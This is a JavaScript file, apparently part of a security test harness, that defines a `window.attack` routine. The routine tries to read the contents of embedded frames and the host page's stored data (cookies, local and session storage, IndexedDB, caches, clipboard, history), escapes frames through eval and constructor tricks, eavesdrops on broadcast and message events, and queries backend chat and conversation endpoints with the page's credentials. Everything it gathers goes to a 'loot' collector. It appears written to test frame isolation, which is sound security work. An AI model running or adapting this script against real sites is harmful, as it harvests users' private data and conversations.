// Reads what a page can read of a frame in it, and of what the browser keeps: every property, by every way to the window.
(() => {
  const { take } = loot;
  const attempt = (what, run) => {
    try {
      take(what, run());
    } catch (error) {
      take(what, `(${error.name})`);
    }
  };

  const WINDOW = [
    'document',
    'location',
    'name',
    'length',
    'opener',
    'parent',
    'top',
    'origin',
    'closed',
    'history',
    'navigation',
    'localStorage',
    'sessionStorage',
    'indexedDB',
    'caches',
    'performance',
    'getSelection',
    'event',
    'crypto',
    'lanterne',
    'message',
    'app',
    'site',
    'texts',
    'then',
  ];

  const readWindow = (view) => {
    for (const name of [...WINDOW, ...Reflect.ownKeys(view).filter((key) => typeof key === 'string')]) {
      attempt(`window.${name}`, () => view[name]);
    }
    attempt('text', () => view.document.body.innerText);
    attempt('fields', () =>
      [...view.document.querySelectorAll('*')]
        .flatMap((element) => [element.value, element.shadowRoot?.querySelector('textarea')?.value])
        .join(),
    );
    attempt('href', () => view.location.href);
    attempt('run', () => view.eval('document.body.innerText'));
    attempt('Function', () => view.Function('return document.body.innerText')());
    attempt('constructor', () => view.constructor.constructor('return document.body.innerText')());
    attempt('print', () => view.print());
    attempt('find', () => view.find('Bonjour'));
  };

  const readFrame = (frame) => {
    attempt('contentDocument', () => frame.contentDocument?.body?.innerText);
    attempt('getSVGDocument', () => frame.getSVGDocument());
    attempt('outerHTML', () => frame.outerHTML);
    attempt('allowed', () => frame.featurePolicy?.allowedFeatures().join());
    readWindow(frame.contentWindow);
  };

  const kept = async () => ({
    local: { ...localStorage },
    session: { ...sessionStorage },
    cookie: document.cookie,
    name: window.name,
    databases: JSON.stringify(await indexedDB.databases()),
    caches: (await caches.keys()).join(),
    locks: JSON.stringify(await navigator.locks.query()),
    history: `${history.length} ${JSON.stringify(history.state)} ${location.href} ${document.title} ${document.referrer}`,
    entries: performance
      .getEntries()
      .map((entry) => JSON.stringify(entry))
      .join(),
    clipboard: await navigator.clipboard?.readText().catch(() => ''),
    selection: String(getSelection()),
  });

  /** The service is asked directly, with the page's own cookies and with none. */
  const ask = async (paths) => {
    for (const path of paths) {
      for (const init of [
        { credentials: 'include' },
        { mode: 'no-cors' },
        { headers: { authorization: 'Bearer x' } },
      ]) {
        const answer = await fetch(`${BACKEND}${path}`, init).catch((error) => error);
        take(
          path,
          answer instanceof Error ? `(${answer.name})` : `${answer.type} ${await answer.text().catch(() => '')}`,
        );
      }
    }
  };

  for (const name of ['conversation', 'lanterne', 'events']) {
    new BroadcastChannel(name).onmessage = ({ data }) => take(`broadcast ${name}`, data);
  }
  const observe = (Observer) =>
    new Observer((list) => {
      for (const entry of list.getEntries?.() ?? list) take('reported', JSON.stringify(entry));
    });
  for (const type of PerformanceObserver.supportedEntryTypes)
    observe(PerformanceObserver).observe({ type, buffered: true });
  observe(ReportingObserver).observe();
  addEventListener('securitypolicyviolation', (event) => take('violation', event));
  addEventListener('storage', (event) => take('storage', event));
  addEventListener('message', (event) => take('message', event.data));

  window.attack = {
    async read(conversation) {
      const found = loot.frames();
      for (const frame of found) readFrame(frame);
      for (let at = 0; at < window.length; at += 1) readWindow(window[at]);
      take('kept', await kept());
      await ask([`/frame/hostile`, `/chat/hostile`, `/v1/sites/hostile`, `/v1/conversations/${conversation}/events`]);
      return found.length;
    },
  };
})();
